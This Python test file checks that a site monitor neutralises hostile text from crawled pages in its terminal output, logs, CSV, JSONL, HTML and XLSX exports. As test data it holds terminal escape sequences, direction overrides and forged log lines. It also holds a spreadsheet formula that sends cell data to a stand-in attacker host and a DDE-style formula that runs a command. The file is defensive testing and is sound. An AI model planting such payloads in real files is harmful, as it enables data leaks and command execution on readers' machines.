"""Untrusted content stays inert in every output (issue 20, item 5).

A loopback site carries hostile payloads in titles, link text and URLs: ANSI and OSC 8 escape sequences,
the C1 CSI (U+009B), BEL, DEL, carriage returns, direction overrides and isolates, and spreadsheet
formulas (``=HYPERLINK(…)``). The monitor crawls it through the real CLI; then every output is read back
— the run's terminal output and log lines, the CSV and JSONL exports, the bulletin's HTML, TXT and XLSX —
and none may carry a raw payload character, and no spreadsheet cell may be a formula.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from pathlib import Path

import openpyxl
import yaml

from monitor.core.clock import SHANGHAI
from monitor.core.findings import Finding, Severity
from monitor.core.textsafe import FORMULA_TRIGGERS, csv_cell, inert, inert_json, unsafe_characters
from monitor.store.database import Resolution, Store
from tests.sites import LocalSites
from tests.test_cli import LOOP, monitor

ESC, CSI, BEL, DEL, RLO, LRI, PDI = "\x1b", "\x9b", "\x07", "\x7f", "\u202e", "\u2066", "\u2069"
OSC8 = f"{ESC}]8;;http://e.x/{ESC}\\点此{ESC}]8;;{ESC}\\"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"查看详情")'
PAYLOAD_CHARS = set(ESC + CSI + BEL + DEL + RLO + LRI + PDI + "\r\x00\u200f\u2028")


def raw_payload(text: str) -> set[str]:
    """The payload characters present in ``text``."""
    return {c for c in text if c in PAYLOAD_CHARS}


def hostile_site(sites: LocalSites) -> str:
    title = f"首页{ESC}[2J{ESC}[31m伪造{RLO}gnp.exe{CSI}2J{BEL}"
    links = {
        "/gone.html": f"{OSC8}{RLO}{CSI}2J",  # anchor text of a dead link: quoted in the finding
        "/formula.html": FORMULA,
        f"/{RLO}evil{LRI}.html": f"通知{DEL}{PDI}公告\r\n[INFO] forged log line",
        "/%E2%80%AE%1B%5B31mfile.pdf": "附件下载",  # percent-encoded payload, decoded for display
        "/ok.html": f"@SUM(1+1){CSI}",
    }
    items = "".join(f'<li><a href="{u}">{t}</a></li>' for u, t in links.items())
    # Navigation text becomes a column's name in zero-config column discovery (the CSV formula).
    nav = (
        '<div class="nav"><ul><li><a href="/">首页</a></li>'
        '<li><a href="/tzgg/">=1+1通知公告</a></li></ul></div>'
    )
    body = (
        f"<html><head><meta charset='utf-8'><title>{title}</title></head>"
        f"<body>{nav}<ul>{items}</ul><p>正文{ESC}[0m</p></body></html>"
    )
    sites.route(LOOP, "/", _raw(body))
    listing = "".join(
        f'<li><a href="/tzgg/2025{i:02d}.html">关于开展第{i}项工作的通知</a><span>2025-0{i}-1{i}</span></li>'
        for i in range(1, 9)
    )
    sites.html(
        LOOP, "/tzgg/", f"<html><head><title>通知公告</title></head><body><ul>{listing}</ul></body></html>"
    )
    sites.html(LOOP, "/ok.html", "<html><head><title>正常</title></head><body>正常页面</body></html>")
    return f"http://{LOOP}:{sites.port}/"


def _raw(body: str):  # type: ignore[no-untyped-def]
    from aiohttp import web

    async def handler(request: web.Request) -> web.Response:
        return web.Response(body=body.encode("utf-8"), content_type="text/html", charset="utf-8")

    return handler


def plant_formula_findings(db: Path, site: str) -> None:
    """Findings whose cells start with every other formula trigger (+ - @ tab CR, full-width =), as
    crawled text can make them; the crawl itself gives the '=' one (a column named by navigation text)."""
    now = datetime(2026, 11, 26, 9, 0, tzinfo=SHANGHAI)
    with Store(db) as store:
        run = store.start_run("columns", site, ("columns",), now)
        store.finish_run(
            run,
            status="ok",
            now=now,
            complete=False,
            resolution=Resolution(("columns",), lambda _identity: False),  # keeps the crawled ones open
            findings=[
                Finding(
                    duty="columns",
                    kind="column_stale",
                    severity=Severity.DEDUCTION,
                    site=site,
                    identity=f"http://{LOOP}/col/{i}/",
                    url=f"http://{LOOP}/col/{i}/",
                    unit=unit,
                    message=message,
                    evidence={"column": message},
                )
                for i, (unit, message) in enumerate(
                    [
                        (f"@SUM(A1:A9){ESC}", f"{FORMULA}：栏目超过90天未更新"),
                        ("+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
                        ("\t=1+1", f"\r=1+1{CSI}"),
                        ("＝1+1", f"{RLO}栏目{LRI}名称{PDI}超过30天未更新"),
                    ]
                )
            ],
        )


async def test_hostile_payloads_are_inert_in_every_output(sites: LocalSites, tmp_path: Path) -> None:
    url = hostile_site(sites)
    config = tmp_path / "config.yaml"
    config.write_text(
        yaml.safe_dump(
            {
                "sites": [{"id": "evil", "name": "测试站点", "homepage": url}],
                "crawl": {"timeout_seconds": 2, "retries": 0, "confirm_delay_seconds": 0.05},
                "darklinks": {"browser": {"enabled": False}},
                "columns": {"discover": True},
            },
            allow_unicode=True,
        ),
        encoding="utf-8",
    )
    db = tmp_path / "m.db"
    base = ("--config", str(config), "--db", str(db))
    code, out, err = await monitor(*base, "-v", "run", "links", cwd=tmp_path)
    assert code == 1, err  # dead links found
    code, col_out, col_err = await monitor(*base, "-v", "run", "columns", cwd=tmp_path)
    assert code == 1, col_err  # the stale column
    # The payloads did reach the store: the test would prove nothing otherwise.
    with Store(db) as store:
        stored = "".join(f["message"] for f in store.findings())
        column = next(f for f in store.findings(duty="columns") if f["kind"] == "column_stale")
    assert {ESC, CSI, RLO, DEL, PDI} <= raw_payload(stored), stored
    assert column["message"].startswith("=1+1通知公告")  # a formula, were it exported as it is
    plant_formula_findings(db, "evil")

    outputs = {"run stdout": out, "run stderr (logs)": err, "columns run": col_out + col_err}
    for fmt in ("csv", "jsonl"):
        target = tmp_path / f"findings.{fmt}"
        code, listed, log = await monitor(
            *base, "findings", "export", "--format", fmt, "-o", str(target), cwd=tmp_path
        )
        assert code == 0, log
        outputs[f"export {fmt}"] = target.read_text(encoding="utf-8-sig")
        code, printed, log = await monitor(*base, "findings", "export", "--format", fmt, cwd=tmp_path)
        outputs[f"export {fmt} (stdout)"] = printed + log
    code, listed, log = await monitor(*base, "findings", "list", cwd=tmp_path)
    outputs["findings list"] = listed + log
    code, status, log = await monitor(*base, "status", "--json", cwd=tmp_path)
    outputs["status --json"] = status + log
    code, rendered, log = await monitor(
        *base,
        "report",
        "weekly",
        "--week",
        "2026-W48",
        "--output-dir",
        str(tmp_path / "reports"),
        cwd=tmp_path,
    )
    assert code in (0, 1), log
    folder = tmp_path / "reports" / "2026-W48"
    html = next(folder.glob("*.html"))
    txt = next(folder.glob("*.txt"))
    outputs["bulletin html"] = html.read_text(encoding="utf-8")
    outputs["bulletin txt"] = txt.read_text(encoding="utf-8")
    outputs["report stdout"] = rendered + log

    for name, text in outputs.items():
        assert not raw_payload(text), (name, sorted(raw_payload(text)))
    # The formulas are still there, as text: nothing was dropped.
    assert "HYPERLINK" in outputs["export csv"] and "HYPERLINK" in outputs["bulletin html"]

    # CSV: no cell starts a formula (OWASP: a single quote before = + - @ tab CR).
    rows = list(csv.reader(io.StringIO(outputs["export csv"])))
    assert len(rows) > 5
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), cell
    quoted = [cell for row in rows for cell in row if cell.startswith("'")]
    assert any(c.startswith("'=HYPERLINK(") for c in quoted) and any(c.startswith("'@SUM") for c in quoted)
    assert any(c.startswith("'=1+1通知公告") for c in quoted)  # the crawled column name
    # JSONL stays lossless: the override comes back from the JSON escape.
    records = [json.loads(line) for line in outputs["export jsonl"].splitlines()]
    assert any(RLO in r["message"] for r in records)

    # XLSX: every text cell is text (never a formula) and inert.
    workbook = openpyxl.load_workbook(next(folder.glob("*.xlsx")))
    cells = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cells += 1
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    assert not raw_payload(cell.value), (sheet.title, cell.coordinate, cell.value)
    assert cells > 20


def test_textsafe_rules() -> None:
    assert inert(f"a{ESC}[31mb{CSI}c{RLO}d\u061ce\u2028f") == "a\\x1b[31mb\\x9bc\\u202ed\\u061ce\\u2028f"
    assert inert("一\n二\t三", keep_newlines=True) == "一\n二\t三"
    assert inert("一\n二") == "一\\x0a二"
    assert unsafe_characters(f"ok\n\t{DEL}") == [DEL]
    for formula in ("=1+1", "+1", "-1", "@A1", "\t=1", "＝1"):
        assert csv_cell(formula) == "'" + formula, formula
    assert csv_cell("\r=1") == "\\x0d=1"  # the CR is escaped, which leaves nothing to run
    assert csv_cell("正常文本") == "正常文本" and csv_cell(3) == 3 and csv_cell(None) is None
    encoded = inert_json({"t": f"{RLO}{CSI}{ESC}x"})
    assert not raw_payload(encoded) and json.loads(encoded) == {"t": f"{RLO}{CSI}{ESC}x"}


def test_log_lines_cannot_be_forged() -> None:
    import logging

    from monitor.app.cli import SafeFormatter

    formatter = SafeFormatter("%(levelname)s %(name)s: %(message)s")
    record = logging.LogRecord(
        "monitor.crawl",
        logging.WARNING,
        __file__,
        1,
        "cannot parse %s",
        (f"标题\nERROR monitor: 伪造{ESC}[2J{RLO}",),
        None,
    )
    line = formatter.format(record)
    assert "\n" not in line and not raw_payload(line)
    assert line == "WARNING monitor.crawl: cannot parse 标题\\x0aERROR monitor: 伪造\\x1b[2J\\u202e"
    try:
        raise ValueError(f"bad{ESC}]8;;x{ESC}\\")
    except ValueError:
        import sys

        record = logging.LogRecord("m", logging.ERROR, __file__, 1, "failed", (), sys.exc_info())
    text = formatter.format(record)
    assert text.count("\n") >= 2 and not raw_payload(text)  # a traceback keeps its lines, inert
